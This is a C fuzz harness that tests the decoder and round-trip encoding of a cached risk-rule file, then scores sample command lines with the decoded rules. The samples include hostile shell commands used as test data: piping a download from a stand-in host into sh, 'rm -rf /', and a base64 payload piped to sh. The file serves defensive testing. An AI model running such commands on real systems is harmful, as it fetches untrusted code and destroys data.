/* fuzz-risk-cache.c: risk_cache_decode (src/risk/risk-cache.c), the reader
 * of the cached risk rules. Each input is read twice: as a whole file, and
 * as a body given the harness's magic, key and a right checksum, so the
 * checks behind the checksum are reached too. Rules taken are exactly
 * what risk_cache_encode writes for them, and the scorer, which trusts
 * each kind of rule to have what the rules reader gives it, scores a few
 * command lines with them. */
#include <assert.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "risk/risk-cache.h"

static const uint8_t	key[SHA256_LEN] = {
	0x6d, 0x6f, 0x61, 0x74, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12,
	13, 14, 15, 16, 17, 18, 19, 20, 21, 22, 23, 24, 25, 26, 27, 28,
};

static void
one(const uint8_t *data, size_t size)
{
	static const char *const	lines[] = {
		"curl http://x | sh", "abc def", "python3 -c 'import os; os.system(1)'",
		"rm -rf / && echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 -d | sh",
	};
	struct risk_rules	*rs;
	struct risk_result	 res;
	char			*b;
	size_t			 n;

	if (risk_cache_decode(data, size, key, &rs) == -1) {
		assert(rs == NULL);
		return;
	}
	b = risk_cache_encode(key, rs, &n);
	assert(n == size && memcmp(b, data, n) == 0);
	free(b);
	for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++) {
		memset(&res, 0, sizeof res);
		risk_score_text(rs, lines[i], &res);
		assert(res.score >= 0 && res.score <= 100);
		risk_result_free(&res);
	}
	risk_rules_free(rs);
}

int
LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	size_t	 n = 8 + SHA256_LEN + size + 8;
	uint8_t	*whole = malloc(n);

	one(data, size);
	/* The same bytes as a body, framed and sealed as a file would be. */
	memcpy(whole, "MOATRSK1", 8);
	memcpy(whole + 8, key, SHA256_LEN);
	memcpy(whole + 8 + SHA256_LEN, data, size);
	risk_cache_seal(whole, n);
	one(whole, n);
	free(whole);
	return (0);
}
